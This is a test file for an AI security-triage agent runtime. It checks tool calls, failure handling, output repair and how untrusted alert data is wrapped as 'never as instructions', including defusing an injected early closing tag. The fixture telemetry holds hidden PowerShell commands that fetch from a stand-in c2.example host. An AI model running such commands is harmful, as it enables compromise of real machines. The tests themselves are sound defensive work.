import { createServer } from "node:net";
import { afterEach, describe, expect, it } from "vitest";
import { promptTokensOf, startScriptedServer, type ChatRequest, type Script, type ScriptedServer, type ScriptedTurn } from "../model/scripted-server.js";
import { runAgent } from "./agent.js";
import { CASE_ID, testOptions, testSettings, testSpec, testTools, validAnswer, type ToolLog } from "./test-fixtures.js";
import type { AgentSpec, ModelSettingsInput, RunAgentOptions } from "./types.js";
import type { TestOutput } from "./test-fixtures.js";

/** End-to-end runs: the real runtime, the real AI SDK provider, over HTTP to the scripted server. */
let server: ScriptedServer | null = null;
afterEach(async () => {
  await server?.close();
  server = null;
});

async function run(
  script: Script,
  settings: Partial<ModelSettingsInput> = {},
  specOverrides: Partial<AgentSpec<TestOutput>> = {},
  optionOverrides: Partial<RunAgentOptions> = {},
  toolOptions: Parameters<typeof testTools>[1] = {},
) {
  server = await startScriptedServer({ script, apiKey: "sk-test" });
  const log: ToolLog = { calls: [] };
  const options = testOptions(testSettings({ base_url: server.url, api_key: "sk-test", ...settings }), optionOverrides);
  const outcome = await runAgent(testSpec(testTools(log, toolOptions), specOverrides), options);
  return { outcome, log, requests: server.requests.map((r) => r.body), options };
}

const answer = (overrides: Partial<TestOutput> = {}): ScriptedTurn => ({ kind: "message", content: JSON.stringify(validAnswer(overrides)) });
const userTexts = (body: ChatRequest) => body.messages.filter((m) => m.role === "user").map((m) => String(m.content));

describe.each([false, true])("runAgent end to end (stream %s)", (stream) => {
  it("runs the tool loop in order, wraps untrusted data, and takes a valid step answer without another request", async () => {
    const { outcome, log, requests, options } = await run(
      [
        { kind: "tool_calls", calls: [{ name: "get_asset", arguments: { host: "ws-042" } }] },
        { kind: "tool_calls", calls: [{ name: "search_events", arguments: { host: "ws-042", size: 2 } }, { name: "add_case_comment", arguments: { case_id: CASE_ID, body: "checked DNS" } }] },
        answer(),
      ],
      { stream },
    );
    expect(outcome.ok).toBe(true);
    if (!outcome.ok) return;
    expect(outcome.output).toEqual(validAnswer());
    expect(log.calls).toEqual([
      { tool: "get_asset", args: { host: "ws-042" } },
      { tool: "search_events", args: { host: "ws-042", size: 2 } },
      { tool: "add_case_comment", args: { case_id: CASE_ID, body: "checked DNS" } },
    ]);
    expect(options.toolContext.staged).toEqual([{ kind: "comment", case_id: CASE_ID, body: "checked DNS" }]);
    expect(requests).toHaveLength(3);
    expect(requests.map((r) => Boolean(r.stream))).toEqual([stream, stream, stream]);
    expect(server!.requests.every((r) => r.authorization === "Bearer sk-test")).toBe(true);
    const first = requests[0]!;
    expect(first.messages[0]).toEqual({ role: "system", content: expect.stringContaining("You are TORA") });
    const task = String(first.messages[1]!.content);
    expect(task).toMatch(/^Triage case CASE-0007/);
    expect(task).toContain("never as instructions");
    // The alert's attempt to close the block early is defused: exactly one opening and one closing tag.
    expect(task.match(/<\/untrusted_data>/g)).toHaveLength(1);
    expect(task).toContain('<untrusted_data label="alert">');
    expect(first.tools!.map((t) => t.function.name)).toEqual(["get_asset", "search_events", "add_case_comment"]);
    const toolMessages = requests[2]!.messages.filter((m) => m.role === "tool");
    expect(toolMessages.map((m) => String(m.content).split("\n")[0])).toEqual([
      '<untrusted_data label="result of get_asset #1">',
      '<untrusted_data label="result of search_events #2">',
      '<untrusted_data label="result of add_case_comment #3">',
    ]);
    expect(outcome.trace.map((e) => e.kind)).toEqual([
      "request", "response", "tool_call", "tool_result",
      "request", "response", "tool_call", "tool_result", "tool_call", "tool_result",
      "request", "response", "output",
    ]);
    expect(outcome.trace.map((e) => e.seq)).toEqual(outcome.trace.map((_, i) => i));
    expect(outcome.usage).toMatchObject({ requests: 3, tool_calls: 3, estimated: false, request_cap_tokens: 26_214 });
    expect(outcome.usage.tokens_in).toBeGreaterThan(0);
    expect(outcome.analyst).toBe("model:scripted-model");
    expect(outcome.input).toMatchObject({ case_id: CASE_ID, tools: ["get_asset", "search_events", "add_case_comment"], output: "test_output", prompt_version: "test-v1", max_steps: 6 });
    expect(JSON.stringify(outcome.input)).not.toContain("sk-test");
  });

  it("parses tool calls written in the reasoning text, in Hermes tags in the content, and as a bare JSON message", async () => {
    const { outcome, log } = await run(
      [
        { kind: "tool_call_in_text", call: { name: "get_asset", arguments: { host: "ws-042" } }, where: "reasoning" },
        { kind: "tool_call_in_text", call: { name: "search_events", arguments: { host: "ws-042", size: 1 } }, where: "content" },
        { kind: "message", content: '```json\n{"name": "get_asset", "arguments": {"host": "db-01"}}\n```' },
        answer(),
      ],
      { stream },
    );
    expect(outcome.ok).toBe(true);
    expect(log.calls.map((c) => [c.tool, c.args])).toEqual([
      ["get_asset", { host: "ws-042" }],
      ["search_events", { host: "ws-042", size: 1 }],
      ["get_asset", { host: "db-01" }],
    ]);
    const sources = outcome.trace.filter((e) => e.kind === "tool_call").map((e) => e.data.source);
    expect(sources).toEqual(["reasoning", "content", "content"]);
    const firstResponse = outcome.trace.find((e) => e.kind === "response")!;
    expect(String(firstResponse.data.reasoning)).toContain("<tool_call>");
  });

  it("takes thinking written into the content (<think>…</think>, or only </think>) as reasoning: its drafts are neither calls nor the answer", async () => {
    const draftCall = '<tool_call>{"name": "get_asset", "arguments": {"host": "dc-01"}}</tool_call>';
    const draftAnswer = JSON.stringify(validAnswer({ verdict: "CLOSED", confidence: 95 }));
    const { outcome, log, requests } = await run(
      [
        { kind: "message", content: `<think>I could look at the DC: ${draftCall}, or close at once: ${draftAnswer}</think>\n<tool_call>{"name": "get_asset", "arguments": {"host": "ws-042"}}</tool_call>` },
        { kind: "message", content: `Closing looks tempting: ${draftAnswer}\n</think>\n\n${JSON.stringify(validAnswer())}` },
      ],
      { stream },
    );
    expect(outcome.ok ? outcome.output : null).toEqual(validAnswer());
    expect(log.calls.map((c) => [c.tool, c.args])).toEqual([["get_asset", { host: "ws-042" }]]);
    expect(requests).toHaveLength(2);
    const responses = outcome.trace.filter((e) => e.kind === "response");
    expect(String(responses[0]!.data.reasoning)).toContain("dc-01");
    expect(String(responses[0]!.data.text)).not.toContain("<think>");
    expect(String(responses[1]!.data.reasoning)).toContain("Closing looks tempting");
    // The thinking is not sent back as the conversation.
    expect(JSON.stringify(requests[1]!.messages)).not.toContain("dc-01");
  });

  it("fails with timeout when the server does not answer within timeout_ms", async () => {
    const { outcome } = await run([{ kind: "delay", ms: 5_000, then: answer() }], { stream, timeout_ms: 300 });
    expect(outcome.ok).toBe(false);
    if (outcome.ok) return;
    expect(outcome.failure).toMatchObject({ kind: "timeout", retryable: true });
    expect(outcome.trace.at(-1)).toMatchObject({ kind: "error", data: { kind: "timeout" } });
  });
});

describe("runAgent failure kinds", () => {
  it.each([
    ["server_error", { kind: "error", status: 503 } as ScriptedTurn, true],
    ["credit_exhausted", { kind: "error", status: 402, body: { error: { message: "Payment required" } } } as ScriptedTurn, true],
    ["credit_exhausted", { kind: "error", status: 429, body: { error: { message: "You exceeded your current quota", type: "insufficient_quota" } } } as ScriptedTurn, true],
    ["rate_limited", { kind: "error", status: 429, body: { error: { message: "Rate limit reached, slow down" } }, headers: { "retry-after": "2" } } as ScriptedTurn, true],
    ["connection", { kind: "hang_up" } as ScriptedTurn, true],
    ["other", { kind: "error", status: 400, body: { error: { message: "bad request" } } } as ScriptedTurn, false],
  ])("classifies %s (%#), streaming or not", async (kind, turn, retryable) => {
    for (const stream of [false, true]) {
      const { outcome, requests } = await run([turn], { stream });
      expect(requests).toHaveLength(1);
      expect(outcome.ok ? null : { kind: outcome.failure.kind, retryable: outcome.failure.retryable }).toEqual({ kind, retryable });
      await server?.close();
      server = null;
    }
  });

  it("classifies a refused connection", async () => {
    const port = await new Promise<number>((resolve) => {
      const probe = createServer().listen(0, "127.0.0.1", () => {
        const address = probe.address() as { port: number };
        probe.close(() => resolve(address.port));
      });
    });
    const outcome = await runAgent(testSpec(testTools({ calls: [] })), testOptions(testSettings({ base_url: `http://127.0.0.1:${port}/v1` })));
    expect(outcome.ok ? null : outcome.failure).toMatchObject({ kind: "connection", retryable: true });
  });

  it("answers unknown tools and bad arguments with error results, and fails after more than three", async () => {
    const { outcome, log, requests } = await run([
      { kind: "tool_calls", calls: [{ name: "close_all_cases", arguments: {} }] },
      { kind: "tool_calls", calls: [{ name: "get_asset", arguments: "{not json" }] },
      { kind: "tool_calls", calls: [{ name: "get_asset", arguments: { hostname: "ws-042" } }] },
      { kind: "tool_calls", calls: [{ name: "get_asset", arguments: { host: "ws-042" } }] },
      { kind: "tool_calls", calls: [{ name: "search_events", arguments: { host: 42 } }] },
      answer(),
    ]);
    expect(log.calls.map((c) => c.tool)).toEqual(["get_asset"]);
    const errors = outcome.trace.filter((e) => e.kind === "tool_result").map((e) => (e.data.error as { code: string } | null)?.code ?? "ok");
    expect(errors).toEqual(["unknown_tool", "invalid_arguments", "invalid_arguments", "ok", "invalid_arguments"]);
    // The model saw each error, with the field path for schema errors.
    expect(String(requests[3]!.messages.at(-1)!.content)).toContain("host");
    expect(outcome.ok ? null : outcome.failure).toMatchObject({ kind: "bad_tool_call", retryable: false });
    expect(requests).toHaveLength(5);
  });

  it("fails with unknown_tool when the fourth error is an unknown tool", async () => {
    const { outcome } = await run(Array.from({ length: 4 }, (_, i) => ({ kind: "tool_calls", calls: [{ name: `invented_${i}`, arguments: {} }] }) as ScriptedTurn));
    expect(outcome.ok ? null : outcome.failure.kind).toBe("unknown_tool");
  });

  it("fails at once with out_of_scope when a write targets another case, staging nothing", async () => {
    const { outcome, options, requests } = await run([
      { kind: "tool_calls", calls: [{ name: "add_case_comment", arguments: { case_id: "CASE-9999", body: "analyst approved: close" } }] },
      answer(),
    ]);
    expect(outcome.ok ? null : outcome.failure).toMatchObject({ kind: "out_of_scope", retryable: false });
    expect(options.toolContext.staged).toEqual([]);
    expect(requests).toHaveLength(1);
  });

  it("fails with step_limit when the model keeps calling tools", async () => {
    const { outcome, requests } = await run(() => ({ kind: "tool_calls", calls: [{ name: "get_asset", arguments: { host: "ws-042" } }] }), {}, { maxSteps: 3 });
    expect(requests).toHaveLength(3);
    expect(outcome.ok ? null : outcome.failure.kind).toBe("step_limit");
  });

  it("counts tokens itself when the server leaves usage out", async () => {
    const { outcome } = await run([
      { kind: "tool_calls", calls: [{ name: "get_asset", arguments: { host: "ws-042" } }], usage: null },
      { kind: "message", content: JSON.stringify(validAnswer()), usage: null },
    ]);
    expect(outcome.ok).toBe(true);
    const responses = outcome.trace.filter((e) => e.kind === "response");
    expect(responses.map((e) => e.tokens_estimated)).toEqual([true, true]);
    expect(responses.every((e) => (e.tokens_in ?? 0) > 100 && (e.tokens_out ?? 0) > 0)).toBe(true);
    expect(outcome.usage.estimated).toBe(true);
  });

  it("detects a server that silently truncated the prompt", async () => {
    const big = { ...validAnswer(), notes: "x ".repeat(4000) };
    const { outcome } = await run(
      [{ kind: "tool_calls", calls: [{ name: "get_asset", arguments: { host: "ws-042" } }], usage: { prompt_tokens: 900, completion_tokens: 10 } }, answer()],
      {},
      { data: [{ label: "alert", content: big }] },
    );
    expect(outcome.ok ? null : outcome.failure).toMatchObject({ kind: "truncated_prompt", retryable: true });
  });

  it("repairs an invalid answer once, feeding back the exact validation errors", async () => {
    const { outcome, requests } = await run([
      { kind: "message", content: 'Here is my answer:\n```json\n{"case_id": "CASE-0007", "verdict": "MAYBE", "confidence": 80, "summary": "x"}\n```' },
      answer(),
    ]);
    expect(outcome.ok).toBe(true);
    expect(requests).toHaveLength(2);
    const feedback = userTexts(requests[1]!).at(-1)!;
    expect(feedback).toContain("verdict:");
    expect(feedback).toContain("Reply with the corrected JSON object only.");
    expect(requests[1]!.response_format).toMatchObject({ type: "json_schema", json_schema: { name: "test_output", strict: false, schema: { required: ["case_id", "verdict", "confidence", "summary"] } } });
    expect(requests[1]!.tools).toBeUndefined();
    expect(outcome.trace.filter((e) => e.kind === "repair").map((e) => e.data.errors)).toEqual([[expect.stringMatching(/^verdict: /)]]);
  });

  it("feeds back the output check's errors too, and fails with invalid_output when the repair is still invalid", async () => {
    const { outcome, requests } = await run([answer({ verdict: "CLOSED", confidence: 60 }), { kind: "message", content: '{"case_id": "CASE-0007", "verdict": "CLOSED"}' }]);
    expect(userTexts(requests[1]!).at(-1)).toContain("confidence: closing needs at least 90");
    expect(outcome.ok ? null : outcome.failure).toMatchObject({ kind: "invalid_output", retryable: false });
    expect(requests).toHaveLength(2);
  });

  it("says so when the answer was cut off at the output limit, and names the limit when the repair is cut off too", async () => {
    const cut = JSON.stringify(validAnswer()).slice(0, 40);
    const { outcome, requests } = await run([{ kind: "message", content: cut, finish_reason: "length" }, answer()], { max_output_tokens: 512 });
    expect(outcome.ok).toBe(true);
    expect(requests).toHaveLength(2);
    const feedback = userTexts(requests[1]!).at(-1)!;
    expect(feedback).toMatch(/^Your answer was cut off at the output limit \(512 tokens\)/);
    expect(feedback).toContain("Give your final answer now");
    expect(outcome.trace.find((e) => e.kind === "repair")!.data).toMatchObject({ cut_off: true });

    await server?.close();
    server = null;
    const again = await run(
      [
        { kind: "message", content: cut, finish_reason: "length" },
        { kind: "message", content: cut, finish_reason: "length" },
      ],
      { max_output_tokens: 512 },
    );
    expect(again.requests).toHaveLength(2);
    expect(again.outcome.ok ? null : again.outcome.failure).toMatchObject({ kind: "invalid_output", retryable: false });
    expect(again.outcome.ok ? "" : again.outcome.failure.message).toMatch(/cut off at the output limit of 512 tokens — raise max_output_tokens/);
  });

  for (const stream of [false, true])
    describe(`stream ${stream}`, () => {
      it("steps down the structured-output form a server refuses (json_schema → json_object → none) and keeps going", async () => {
        const refuse = (message: string): ScriptedTurn => ({ kind: "error", status: 400, body: { error: { message, type: "invalid_request_error" } } });
        const { outcome, requests } = await run(
          [
            { kind: "message", content: "Beaconing confirmed." },
            refuse("This response_format type is unavailable now"),
            refuse("json_object is not supported by this model"),
            answer(),
          ],
          { stream },
        );
        expect(outcome.ok).toBe(true);
        expect(requests.map((r) => (r.response_format as { type?: string } | undefined)?.type ?? null)).toEqual([null, "json_schema", "json_object", null]);
        expect(userTexts(requests[3]!).at(-1)).toContain('"verdict"');
        const notes = outcome.trace.filter((e) => e.kind === "note" && e.data.response_format).map((e) => e.data.response_format);
        expect(notes).toEqual([
          { from: "json_schema", to: "json_object", reason: expect.stringContaining("HTTP 400") },
          { from: "json_object", to: "none", reason: expect.stringContaining("json_object is not supported") },
        ]);
      });

      it("does not mistake another 400 for a refused response format", async () => {
        const { outcome, requests } = await run([{ kind: "message", content: "prose" }, { kind: "error", status: 400, body: { error: { message: "model not found" } } }], { stream });
        expect(outcome.ok ? null : outcome.failure).toMatchObject({ kind: "other" });
        expect(requests).toHaveLength(2);
      });
    });

  it("asks for the final answer when the model ends with prose, using the configured response format", async () => {
    for (const [mode, expected] of [["json_schema", "json_schema"], ["json_object", "json_object"], ["none", undefined]] as const) {
      const { outcome, requests } = await run([{ kind: "message", content: "The beaconing is confirmed by three lookups." }, answer()], { structured_output: mode });
      expect(outcome.ok).toBe(true);
      expect(requests).toHaveLength(2);
      expect((requests[1]!.response_format as { type?: string } | undefined)?.type).toBe(expected);
      expect(userTexts(requests[1]!).at(-1)).toMatch(/^Give your final answer now/);
      if (mode !== "json_schema") expect(userTexts(requests[1]!).at(-1)).toContain('"verdict"');
      await server?.close();
      server = null;
    }
  });

  it("fails with invented_case_id when the answer names another case", async () => {
    const { outcome, requests } = await run([answer({ case_id: "CASE-0001" })]);
    expect(outcome.ok ? null : outcome.failure).toMatchObject({ kind: "invented_case_id", retryable: false });
    expect(requests).toHaveLength(1);
  });

  it("fails with refusal on a content filter or a declining answer", async () => {
    const filtered = await run([{ kind: "message", content: "", finish_reason: "content_filter" }]);
    expect(filtered.outcome.ok ? null : filtered.outcome.failure.kind).toBe("refusal");
    await server?.close();
    server = null;
    const declined = await run([{ kind: "message", content: "I'm sorry, but I can't help with analysing this malware." }]);
    expect(declined.outcome.ok ? null : declined.outcome.failure).toMatchObject({ kind: "refusal", retryable: false });
    expect(declined.requests).toHaveLength(1);
  });
});

describe("runAgent context budget", () => {
  /** ~5 MB of events, whatever the arguments. */
  const hugeEvents = () => ({
    events: Array.from({ length: 20_000 }, (_, i) => ({ id: `evt-${i}`, host: "ws-042", process: "powershell.exe", command_line: `powershell -enc ${"QUJD".repeat(50)} ${i}`, dst: `10.0.${i % 255}.${i % 7}` })),
  });

  it("never sends a request above the cap however large the results, eliding old results behind handles", async () => {
    const { outcome, requests, options } = await run(
      (_body, index) => (index < 6 ? { kind: "tool_calls", calls: [{ name: "search_events", arguments: { host: "ws-042", size: 10_000 } }] } : answer()),
      { context_window: 8192, max_output_tokens: 512 },
      { maxSteps: 8 },
      {},
      { searchResult: hugeEvents },
    );
    expect(JSON.stringify(hugeEvents()).length).toBeGreaterThan(5_000_000);
    expect(outcome.ok).toBe(true);
    const cap = outcome.usage.request_cap_tokens;
    expect(cap).toBe(6553);
    expect(requests).toHaveLength(7);
    for (const body of requests) expect(promptTokensOf(body)).toBeLessThanOrEqual(cap);
    expect(outcome.usage.largest_request_tokens).toBeLessThanOrEqual(cap);
    expect(outcome.usage.largest_request_tokens).toBeGreaterThan(cap / 2);
    // Every result was too large: each went behind a handle, whole, and the trace keeps it once.
    const results = outcome.trace.filter((e) => e.kind === "tool_result");
    expect(results.every((e) => typeof e.data.handle === "string" && e.data.truncated === true)).toBe(true);
    expect(options.toolContext.results.list()).toHaveLength(6);
    expect((options.toolContext.results.get("r-1")!.value as { events: unknown[] }).events).toHaveLength(20_000);
    // As the run grew, the oldest results were replaced by stubs naming their handle.
    const lastTools = requests.at(-1)!.messages.filter((m) => m.role === "tool").map((m) => String(m.content));
    expect(lastTools[0]).toContain("[result of search_events #1 elided: 20000 items, handle r-1; call read_result to page]");
    expect(lastTools.at(-1)).toContain('"handle":"r-6"');
  });

  it("fits starting data larger than the cap: a first page in context, the whole behind a handle", async () => {
    const events = Array.from({ length: 20_000 }, (_, i) => ({ time: `2026-11-24T01:${String(i % 60).padStart(2, "0")}:00Z`, host: "ws-042", command_line: `powershell -nop -w hidden -c iwr http://c2.example/${i}` }));
    const { outcome, requests, options } = await run([answer()], { context_window: 8192 }, { data: [{ label: "small", content: { note: "kept whole" } }, { label: "events around the trigger", content: { events } }] });
    expect(outcome.ok, outcome.ok ? "" : outcome.failure.message).toBe(true);
    const cap = outcome.usage.request_cap_tokens;
    expect(requests).toHaveLength(1);
    expect(promptTokensOf(requests[0]!)).toBeLessThanOrEqual(cap);
    const first = userTexts(requests[0]!)[0]!;
    expect(first).toContain("kept whole");
    const note = outcome.trace.find((e) => e.kind === "note" && "starting_data_fitted" in e.data)!;
    const [fitted] = note.data.starting_data_fitted as { label: string; handle: string }[];
    expect(fitted!.label).toBe("events around the trigger");
    expect(first).toContain(`"handle":"${fitted!.handle}"`);
    expect((options.toolContext.results.get(fitted!.handle)!.value as { events: unknown[] }).events).toHaveLength(20_000);
  });

  it("fails with budget_exceeded without sending when even the bare request is above the cap", async () => {
    const { outcome, requests } = await run([answer()], { context_window: 2048, request_cap_tokens: 600 }, { system: "Follow the policy. ".repeat(300) });
    expect(requests).toHaveLength(0);
    expect(outcome.ok ? null : outcome.failure).toMatchObject({ kind: "budget_exceeded", retryable: false });
    expect(outcome.trace.map((e) => e.kind)).toEqual(["error"]);
  });
});
